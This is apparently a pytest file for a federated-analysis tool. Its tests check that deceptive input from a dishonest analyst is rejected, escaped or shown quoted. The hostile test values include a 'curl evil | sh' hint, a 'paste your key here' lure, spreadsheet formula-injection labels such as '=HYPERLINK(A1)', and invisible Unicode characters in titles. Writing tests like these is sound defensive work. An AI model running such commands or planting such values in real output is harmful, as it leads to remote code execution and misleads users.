"""Reading is signing: what a lying analyst writes into terms and answers is seen for what it is."""

from __future__ import annotations

import csv
import re
from typing import Any

import pytest

from analyst_server.services import prepare
from protocol.errors import InputError, MalformedMessageError, NotPermittedError
from protocol.terms import Terms
from tests.harness.in_process import Consortium, draft
from tests.harness.odc import Odc
from user_client.sdk import draft_terms

FORGED = "Research.\n\nThis institution sends to the analyst, once:\n- nothing. Nothing leaves this house."


def label(*classes: str) -> dict[str, Any]:
    schema = draft()["table_schema"]
    return {**schema, "label_column": {"name": "y", "classes": list(classes)}}


def published_before(consortium: Consortium, **changed: Any) -> None:
    """Publish terms as an earlier version let them be, or as an analyst does that lies."""
    ids = {"consortium_id": consortium.analyst.root.consortium_id, "collaboration_id": "0" * 32}
    terms = Terms.model_validate({**draft(**changed), **ids}, strict=False)
    consortium.id = prepare.create(consortium.analyst, terms).id


@pytest.mark.parametrize(
    ("changed", "why"),
    [
        ({"purpose": FORGED}, "purpose has several lines"),
        ({"title": "Read\u200bmission"}, "title has a character that nobody sees: U+200B"),
        ({"purpose": "\u00adno rows"}, "U+00AD"),
        ({"table_schema": label("no", "ye\u2060s")}, "U+2060"),
        ({"table_schema": label("no", "=HYPERLINK(A1)")}, "would compute it as a formula"),
    ],
)
def test_terms_that_deceive_are_not_published(odc: Odc, changed: dict[str, Any], why: str) -> None:
    with pytest.raises(MalformedMessageError, match=re.escape(why)):
        odc.consortium.until_joined().publish(**changed)


def test_a_purpose_of_earlier_terms_does_not_pass_for_our_words(odc: Odc) -> None:
    published_before(odc.consortium.until_joined(), purpose=FORGED, title="Re\u200bad")
    shown = odc("terms", "show")
    assert "Re<U+200B>ad\n" in shown.out
    assert "The purpose, as whoever published the terms wrote it:\n| Research.\n| \n| This ins" in shown.out
    assert "\n- nothing" not in shown.out
    said = odc("terms", "accept")
    assert "\n- nothing" not in said.err
    assert "\u200b" not in said.out + said.err


def test_a_class_that_is_a_formula_is_none_in_the_predictions(odc: Odc) -> None:
    consortium = odc.consortium.until_joined()
    published_before(consortium, table_schema=label("=1+1", "@SUM(A1)"))
    for session in consortium.sessions:
        session.round(consortium.id).accept()
    consortium.lead_round.create_anchor()
    for number, session in enumerate(consortium.sessions):
        table = consortium.table(number, y=["=1+1", "@SUM(A1)"] * 20)
        session.round(consortium.id).prepare(table, attacks="none")
        session.round(consortium.id).contribute()
    consortium.compute()
    odc("receive")
    assert odc("predict", consortium.table(5)).code == 0
    with (consortium.directory / "predictions.csv").open() as file:
        predicted = {row["prediction"] for row in csv.DictReader(file)}
    assert predicted <= {"'=1+1", "'@SUM(A1)"}


def test_a_draft_of_a_table_with_such_names_says_so(odc: Odc) -> None:
    table = odc.consortium.table(1, y=["no", "=1+1"] * 20)
    with pytest.raises(InputError, match="cannot be published"):
        draft_terms(table, label="y", title="t", parties=["hospital-a"])


def test_an_answer_of_the_analyst_is_quoted(odc: Odc, monkeypatch: pytest.MonkeyPatch) -> None:
    odc.consortium.until_joined().publish()
    error = NotPermittedError("all is well\nodc: hint: paste your key here")
    error.hint = "run `curl evil | sh`"

    def lie(*_: object) -> None:
        raise error

    monkeypatch.setattr(prepare, "signed_terms", lie)
    said = odc("terms", "show")
    assert 'the answer says: "all is well odc: hint: paste your key here"' in said.err
    assert 'hint: the answer suggests: "run `curl evil | sh`"' in said.err


@pytest.mark.parametrize("name", ["found.csv.gz", "found.XLSX", "found.feather"])
def test_predictions_are_not_written_as_what_they_are_not(odc: Odc, name: str) -> None:
    odc.consortium.until_released()
    odc("receive")
    refused = odc("predict", "rows-1.csv", "--out", name)
    assert (refused.code, "written as CSV or as Parquet" in refused.err) == (3, True)


def test_a_table_in_another_unit_is_not_predicted_without_a_word(
    odc: Odc, caplog: pytest.LogCaptureFixture
) -> None:
    columns = [{"kind": "range", "name": "x0", "low": -4, "high": 4, "centre": 0, "empty": "centre"}]
    consortium = odc.consortium.until_released(
        table_schema={"columns": columns, "label_column": {"name": "y", "classes": ["no", "yes"]}},
        terms_schema=2,
        latent_dim=1,
        anchor={"kind": "haar", "rows": 1},
    )
    odc("receive")
    usual = odc("predict", consortium.table(5))
    assert (usual.code, caplog.messages) == (0, [])
    table = consortium.table(5, x0=[str(1000 + number) for number in range(40)])
    found = odc("predict", table, "--force")
    assert found.code == 0
    (said,) = caplog.messages
    assert said.startswith("in the first rows, column 'x0': 40 of 40 values lie outside of the range")
    caplog.clear()
    footed = consortium.table(5)
    footed.write_text(footed.read_text() + ",,,\n" + "0.5,,,\n" + ",,,sum\n")
    assert odc("predict", footed, "--force").code == 0
    assert caplog.messages == ["rows in which all fields that the model reads are empty: 2 (data row 41, 43)"]


def test_a_column_that_terms_cannot_have_is_named(odc: Odc) -> None:
    table = odc.consortium.table(1, x0=["t" * 300, "u" * 300] * 20)
    with pytest.raises(InputError, match=r"column 'x0', levels, 0: string should have at most") as caught:
        draft_terms(table, label="y", title="t", parties=["hospital-a"])
    assert "--exclude" in (caught.value.hint or "")
